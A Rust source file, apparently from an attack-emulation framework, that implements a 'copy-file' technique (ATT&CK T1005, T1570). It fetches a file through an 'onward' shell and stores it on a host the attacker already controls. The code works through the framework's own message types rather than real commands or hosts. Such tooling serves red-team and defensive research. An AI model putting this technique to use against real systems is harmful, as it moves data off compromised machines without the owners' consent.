//! Copies a file from the host reached onward to the host whose shell it is in.

use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::{Input, SocketEvent};
use crate::parameters::Parameters;
use crate::wire::Message;
use crate::wire::shell::{Command, Output, Shell};

/// Technique `copy-file`.
#[derive(Debug)]
pub(super) struct CopyFile;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Path of the file there.
    path: String,
    /// Path here.
    #[param(default = "/tmp/copy")]
    to: String,
}

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, CopyFile>;

static ENTRY: Entry = Entry {
    id: "copy-file",
    title: "Copy a file to a held host",
    summary: "Fetches a file over the onward shell and stores it on the host whose shell the attacker is in.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["T1005", "T1570"],
};

impl Technique for CopyFile {
    type Params = Params;
    type State = ();
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] = &["fetch", "stored"];

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                let Some(shell) = step.knowledge.shell.as_ref().filter(|s| s.onward) else {
                    return Progress::Failed("in no onward shell");
                };
                let stream = shell.stream;
                let fetch = Command::Fetch {
                    path: step.params.path.clone(),
                    to: step.params.to.clone(),
                };
                step.hands
                    .send(stream, Message::Shell(Box::new(Shell::Run(fetch))));
                Progress::Wait
            }
            Input::Socket(SocketEvent::Message { message, .. }) => match &**message {
                Message::Shell(s) => match **s {
                    Shell::Output(Output::Done) => Progress::Done("copied"),
                    Shell::Output(Output::NoSpace) => Progress::Failed("no room"),
                    Shell::Output(Output::NotFound) => Progress::Failed("no such file"),
                    Shell::Output(Output::Unreachable) => Progress::Failed("lost the onward shell"),
                    _ => Progress::Wait,
                },
                _ => Progress::Wait,
            },
            Input::Socket(SocketEvent::Failed { .. } | SocketEvent::Closed(_)) => {
                Progress::Failed("lost the shell")
            }
            _ => Progress::Wait,
        }
    }
}
